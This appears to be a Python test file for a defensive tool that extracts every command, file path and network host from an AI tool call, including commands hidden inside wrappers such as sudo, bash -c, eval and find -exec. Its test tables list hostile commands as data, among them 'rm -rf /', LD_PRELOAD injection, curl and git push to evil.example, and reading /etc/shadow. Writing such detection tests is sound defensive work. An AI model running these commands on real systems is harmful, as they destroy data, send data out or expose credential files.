"""Every program a call runs, however it is spelled."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aegisd.core.manifest.model import Binary
from aegisd.core.target.command import (
    CALL_WORDS_MAX,
    COMMAND_NESTING_MAX,
    LINE_CHARS_MAX,
    WORDS_MAX,
    Programs,
)
from aegisd.core.target.extract import extract
from aegisd.core.target.model import Command, Problem, Targets
from tests.table import each


def run(**args: object) -> Targets:
    return extract(args, effects=("exec",), roles={})


def argvs(targets: Targets) -> list[list[str]]:
    return [[command.binary, *command.args] for command in targets.commands]


def codes(targets: Targets) -> list[str]:
    return [problem.code for problem in targets.problems if problem.target == "command"]


LINES = [
    # line, every command in it (sorted), problem codes
    ("git log --oneline", [["git", "log", "--oneline"]], []),
    ("/usr/bin/git log", [["/usr/bin/git", "log"]], []),
    ("GIT log", [["GIT", "log"]], []),
    ("gi\\t 'log'", [["git", "log"]], []),
    ("g'i't \"log\"", [["git", "log"]], []),
    ("'git log'", [["git log"]], []),
    ("''", [[""]], []),
    ("ｇit log", [["ｇit", "log"]], []),
    ("git\u00a0log", [["git\u00a0log"]], []),
    ("bash -c 'git log'", [["bash", "-c", "git log"], ["git", "log"]], []),
    (
        "bash -c 'git log; rm x'",
        [["bash", "-c", "git log; rm x"], ["git", "log"], ["rm", "x"]],
        [],
    ),
    (
        "sudo env TZ=UTC timeout 5 nice ls",
        [
            ["env", "TZ=UTC", "timeout", "5", "nice", "ls"],
            ["ls"],
            ["nice", "ls"],
            ["sudo", "env", "TZ=UTC", "timeout", "5", "nice", "ls"],
            ["timeout", "5", "nice", "ls"],
        ],
        [],
    ),
    ("/bin/busybox sh -c ls", [["/bin/busybox", "sh", "-c", "ls"], ["ls"], ["sh", "-c", "ls"]], []),
    ("xargs rm -rf", [["rm", "-rf", "\ufffd"], ["xargs", "rm", "-rf"]], ["unknown"]),
    ("python3 -c 'x'", [["python3", "-c", "x"]], ["code"]),
    ("bash", [["bash"]], ["input"]),
    ("eval 'rm x'", [["eval", "rm x"], ["rm", "x"]], []),
    ("eval \"'rm' 'x y'\"", [["eval", "'rm' 'x y'"], ["rm", "x y"]], []),
    ("git log; rm -rf /", [["git", "log"], ["rm", "-rf", "/"]], []),
    ("git log && rm x", [["git", "log"], ["rm", "x"]], []),
    ("git log | sh", [["git", "log"], ["sh"]], ["input"]),
    ("git log\nrm x", [["git", "log"], ["rm", "x"]], []),
    ("ls $(rm x)", [["ls", "\ufffd\ufffdrm", "x\ufffd"]], ["shell_syntax", "unknown"]),
    ("$GIT log", [["\ufffdGIT", "log"]], ["shell_syntax"]),
    ("A=1 git log", [["git", "log"]], ["variable_name"]),
    ("LD_PRELOAD=/tmp/x.so ls", [["ls"]], ["variable_name"]),
    (
        "env LD_PRELOAD=/tmp/x.so ls",
        [["env", "LD_PRELOAD=/tmp/x.so", "ls"], ["ls"]],
        ["variable_name"],
    ),
    ("ls 'lo\x00g'", [["ls", "lo\x00g"]], ["control"]),
    ("ls *", [["ls", "*"]], ["shell_syntax"]),
    ("ls 'x", [["ls", "\ufffdx"]], ["shell_syntax", "unknown"]),
    ("", [], ["no_command"]),
    (" \n", [], ["no_command"]),
]


@each(("line", "commands", "expected"), LINES)
def test_every_command_in_a_line_is_listed_wrappers_and_wrapped(
    line: str, commands: list[list[str]], expected: list[str]
) -> None:
    targets = run(command=line)
    assert sorted(argvs(targets)) == commands
    assert codes(targets) == sorted(expected)


FROM_THERE = [
    # line, the places that its `x` or `../x` is judged from
    ("cat x", ["x"]),
    ("cd a && cat ../x", ["x"]),
    ("cd a && cd b && cat ../x", ["a/x"]),
    ("cd a; cat x", ["a/x", "x"]),
    ("cd a; cat ../x", ["../x", "x"]),
    ("cd a\ncat ../x", ["../x", "x"]),
    ("cd a | true; cat ../x", ["../x", "x"]),
    ("true || cd a && cat ../x", ["../x", "x"]),
    ("true ||\ncd a && cat ../x", ["../x", "x"]),
    ("cd a && ls || cat ../x", ["../x", "x"]),
    ("cd a && sh -c 'cd b && cat ../x'", ["a/x"]),
    ("sh -c 'cd a' && cat ../x", ["../x", "x"]),
    ("cd a && command cd .. && cat ../x", ["../x", "x"]),
    ("cd -- a && cat ../x", ["x"]),
    ("cd /w && cat ../x", ["/x"]),
    ("cd && cat x", ["~/x"]),
]


@each(("line", "places"), FROM_THERE)
def test_a_name_is_judged_from_every_place_where_a_cd_before_it_may_have_led(
    line: str, places: list[str]
) -> None:
    targets = extract(
        {"command": line}, effects=("exec",), roles={}, programs=Programs(binaries={}, files=True)
    )
    found = {each.path for each in targets.paths if each.path.endswith("x")}
    found |= {"../x" for each in targets.problems if each.code == "escape"}
    found |= {"~/x" for each in targets.problems if each.code == "home"}
    assert sorted(found) == sorted(places)


def test_a_line_may_lead_to_as_many_places_as_are_judged_and_no_more() -> None:
    assert "nesting" not in codes(run(command="cd a; cd b; cd c; ls"))
    assert "nesting" in codes(run(command="cd a; " * 500))


@each(
    ("line", "is_refused"),
    [
        ("vim x", False),
        ("git commit -m x", False),
        ("vim x < y", True),
        ("echo x | git commit --amend", True),
        ("echo x | git commit -F -", False),
        ("echo x | sudo vim x", True),
        ("sh -c 'vim x' < y", True),
        ("vim x <<'E'\ny\nE", True),
        ("echo x | cat; vim x", False),
        ("echo x | ssh h", True),
        ("echo x | ssh h cat", False),
        ("psql postgresql://db.example/a", False),
        ("echo x | psql -d a", True),
        ("echo x | psql -d a -c 'select 1'", False),
        ("sqlite3 a.db < x", True),
        ("echo x | redis-cli -h db.example", True),
    ],
)
def test_a_program_that_obeys_its_standard_input_is_given_none_by_a_line(
    line: str, *, is_refused: bool
) -> None:
    assert ("input" in codes(run(command=line))) is is_refused


SHAPES: list[tuple[dict[str, object], list[list[str]], list[str]]] = [
    ({"argv": ["cat", "log; rm x"]}, [["cat", "log; rm x"]], []),
    ({"cmd": ["bash", "-c", "rm x"]}, [["bash", "-c", "rm x"], ["rm", "x"]], []),
    ({"command": "git", "args": ["push", "--force"]}, [["git", "push", "--force"]], []),
    ({"command": "git -C x", "args": ["log"]}, [["git", "-C", "x", "log"]], []),
    ({"command": "bash", "args": ["-c", "rm x"]}, [["bash", "-c", "rm x"], ["rm", "x"]], []),
    ({"command": ["git"], "args": ["push"]}, [["git", "push"]], []),
    ({"command": "", "args": ["rm", "x"]}, [["rm", "x"]], []),
    ({"binary": "git", "arguments": "log 'a b'"}, [["git", "log", "a b"]], []),
    ({"program": "git log", "args": []}, [["git log"]], []),
    ({"executable": "bash", "argv": ["-c", "rm"]}, [["bash", "-c", "rm"], ["rm"]], []),
    ({"bin": "ls", "args": "a; b"}, [["ls", "a"]], ["shell_syntax"]),
    ({"command": "git", "args": ["log", 5]}, [["git", "log"]], ["not_text", "not_text"]),
    ({"command": ["git", None]}, [["git"]], ["not_text"]),
    ({"command": 5}, [], ["no_command", "not_text"]),
    ({"command": None, "shell": True}, [], ["no_command"]),
    ({"args": ["rm", "x"]}, [["rm", "x"]], []),
    ({"args": ["rm", "x"], "note": "git"}, [["rm", "x"]], []),
    ({"command": {"line": "git log"}}, [["git", "log"]], []),
    ({"command": {"binary": "git", "args": ["log"]}}, [["git", "log"]], []),
    ({"command": [["git", "log"], ["rm", "x"]]}, [["git", "log"], ["rm", "x"]], []),
    ({"steps": [{"cmd": "git log"}, {"cmd": "rm x"}]}, [["git", "log"], ["rm", "x"]], []),
    ({"command": {"": "rm x"}}, [["rm", "x"]], []),
    ({"shell_command": "git log"}, [["git", "log"]], []),
    ({"command": "ls", "args": "; id"}, [["ls"]], ["shell_syntax"]),
    ({"command": "ls", "args": "> x"}, [["ls"]], ["shell_syntax"]),
    ({"command": "cat", "args": "A=1"}, [["cat", "A=1"]], []),
    ({"script": "print(open('x'))"}, [["print\ufffdopen\ufffdx\ufffd\ufffd"]], ["shell_syntax"]),
    ({"query": "rm x"}, [], ["no_command"]),
]


@each(("args", "commands", "expected"), SHAPES)
def test_every_shape_a_command_comes_in_is_read(
    args: dict[str, object], commands: list[list[str]], expected: list[str]
) -> None:
    targets = run(**args)
    assert sorted(argvs(targets)) == commands
    assert codes(targets) == expected


def test_a_role_makes_a_parameter_a_command_and_unmakes_one() -> None:
    args = {"query": "git log", "code": "rm x"}
    targets = extract(args, effects=["exec"], roles={"query": "command", "code": "content"})
    assert argvs(targets) == [["git", "log"]]
    assert not targets.problems


def test_arguments_declared_content_are_not_looked_into() -> None:
    roles = {"tool": "command", "args": "content"}
    targets = extract({"tool": "git", "args": ["log"]}, effects=["exec"], roles=roles)
    assert argvs(targets) == [["git"]]


def test_a_program_and_its_arguments_under_one_role_are_one_command() -> None:
    roles = {"tool": "command", "args": "command"}
    targets = extract({"tool": "git", "args": ["log"]}, effects=["exec"], roles=roles)
    assert argvs(targets) == [["git", "log"]]


def test_a_command_says_where_it_stands() -> None:
    targets = run(steps=[{"cmd": "bash -c '$x'"}])
    assert targets.commands == (
        Command(binary="bash", args=("-c", "$x"), where="/args/steps/0/cmd"),
        Command(binary="\ufffdx", args=(), where="/args/steps/0/cmd"),
    )
    assert targets.problems == (
        Problem(target="command", code="shell_syntax", where="/args/steps/0/cmd", program="bash"),
    )


def test_only_tools_that_run_programs_are_asked_for_commands() -> None:
    assert extract({"command": "rm x"}, effects=["message"], roles={}) == Targets()


wrapping = st.sampled_from(
    [
        "env",
        "nohup",
        "sudo -n",
        "timeout 5",
        "nice -n 1",
        "bash -c",
        "eval",
        "find . -exec",
    ]
)


@given(wrappers=st.lists(wrapping, max_size=COMMAND_NESTING_MAX))
def test_no_stack_of_wrappers_hides_the_command_inside(wrappers: list[str]) -> None:
    argv = ["rm", "a b"]
    for wrapper in reversed(wrappers):
        first, *options = wrapper.split()
        if first in {"bash", "eval"}:
            argv = [first, *options, shlex.join(argv)]
        else:
            argv = [first, *options, *argv, *([";"] if first == "find" else [])]
    targets = run(command=shlex.join(argv))
    inner_finds = wrappers.count("find . -exec")
    if inner_finds < 2:  # the first ; ends the outer find, as it does for find itself
        assert ["rm", "a b"] in argvs(targets)
        assert not targets.problems
    assert len(targets.commands) > len(wrappers) or inner_finds


def test_commands_nest_as_deep_as_is_read_and_no_deeper() -> None:
    deepest = "env " * COMMAND_NESTING_MAX + "ls"
    assert codes(run(command=deepest)) == []
    assert ["ls"] in argvs(run(command=deepest))
    assert codes(run(command=f"env {deepest}")) == ["nesting"]


def test_a_line_may_be_as_long_as_a_shell_can_be_given_and_no_longer() -> None:
    longest = "cat " + "a" * (LINE_CHARS_MAX - 4)
    assert codes(run(command=longest)) == []
    assert codes(run(command=f"{longest}a")) == ["no_command", "too_long"]


@pytest.mark.parametrize("shape", [list, " ".join])
def test_a_command_may_have_as_many_words_as_are_judged_and_no_more(shape: type) -> None:
    most = ["a"] * WORDS_MAX
    assert codes(run(command=shape(most))) == []
    assert codes(run(command=shape([*most, "a"]))) == ["no_command", "too_long"]
    assert codes(run(binary="git", args=shape(most))) == ["no_command", "too_long"]


@pytest.mark.parametrize("name", ["cmd_args", "extra_args", "params", "flags", "options"])
def test_arguments_beside_a_program_are_its_arguments_by_whatever_usual_name(name: str) -> None:
    args = {"cmd": "git", name: ["-c", "core.pager=sh"]}
    (command,) = extract(args, effects=("exec",), roles={"cmd": "command"}).commands
    assert command.args == ("-c", "core.pager=sh")


def test_the_words_of_a_call_are_bounded_however_often_they_are_shared() -> None:
    beside = 1_023
    programs = {f"p{n:02}_command": "echo" for n in range(CALL_WORDS_MAX // (beside + 1))}
    shared = run(**programs, args=["x"] * beside)
    assert (len(shared.commands), codes(shared)) == (len(programs), [])
    one_more = run(**programs, q_command="echo", args=["x"] * beside)
    assert (len(one_more.commands), codes(one_more)) == (len(programs), ["too_long"])


LIMITED = Programs(
    binaries={
        "tool": Binary(name="tool"),
        "offline": Binary(name="offline", net="none"),
        "online": Binary(name="online", net="any"),
        "client": Binary(name="client", net=("-h", "--host", 1)),
    },
    files=True,
    hosts=True,
)


def reached(line: str, programs: Programs = LIMITED) -> list[str]:
    """What a line reaches for, in short: hosts, files with their access, codes of problems."""
    found = extract({"command": line}, effects=["exec"], roles={}, programs=programs)
    return [
        *(f"host {host.host}" for host in found.hosts),
        *(f"{path.access} {path.path}" for path in found.paths),
        *(f"{problem.target} {problem.code}" for problem in found.problems),
    ]


@each(
    ("line", "found"),
    [
        ("cat a /b", ["read /b", "read a"]),
        ("cd web && cat a ../b /c", ["load web", "read /c", "read b", "read web/a"]),
        ("cd web && cd x && ls y", ["load web", "load web/x", "read web/x/y"]),
        ("cd web && cat ~/x", ["load web", "read ~/x", "path home"]),
        ("cd && cat x", ["read ~/x", "path home"]),
        ("cat a > b 2>/dev/null", ["read a", "write b"]),
        ("sort -o x y | tee z", ["read y", "write x", "write z"]),
        ("curl evil.example -o /x", ["host evil.example", "write /x"]),
        ("curl -x 6.6.6.6:80 https://a.example/", ["host 6.6.6.6", "host a.example"]),
        ("psql postgresql://app@db.example:5433/x -c 'select 1'", ["host db.example"]),
        ("ssh build.example cat /etc/x", ["host build.example"]),
        ("docker exec box curl evil.example -o /x", ["host evil.example"]),
        ("git push git@evil.example:x/y main", ["host evil.example"]),
        ('git commit -m "http: retry" -m "see https://evil.example/"', []),
        ("grep -rn '// NOTE' src", ["read src"]),
        ("curl file:///etc/shadow", ["host scheme"]),
        ("tool x", ["command undeclared"]),
        (
            "offline https://evil.example/",
            ["write /evil.example", "write https:/evil.example", "path path_scheme"],
        ),
        ("online evil.example", []),
        ("client -h a.example b.example", ["host a.example", "host b.example"]),
        ("client --host=a.example", ["host a.example"]),
        ("client b.example /x", ["host b.example", "write /x"]),
        ("client -o a.example evil.example", ["host a.example", "host evil.example"]),
        ("client -vhevil.example a.example", ["host a.example", "host evil.example"]),
        ("client --hos=evil.example a.example", ["host a.example", "host evil.example"]),
        ("offline -o/etc/x", ["write /etc/x"]),
        ("offline -osrc/x -O2 --level=1.5", ["write src/x"]),
        ("unlisted https://evil.example/", []),
    ],
)
def test_what_words_reach_for_is_a_target_of_the_call(line: str, found: list[str]) -> None:
    assert sorted(reached(line)) == sorted(found)


def test_files_are_read_where_the_manifest_limits_them_and_redirections_always() -> None:
    unlimited = Programs(binaries=LIMITED.binaries)
    assert reached("cat /a > /b", unlimited) == ["write /b"]


def test_hosts_of_a_program_nobody_described_are_looked_for_in_its_words() -> None:
    unlimited = Programs(binaries=LIMITED.binaries)
    assert reached("tool https://evil.example/", unlimited) == ["host evil.example"]
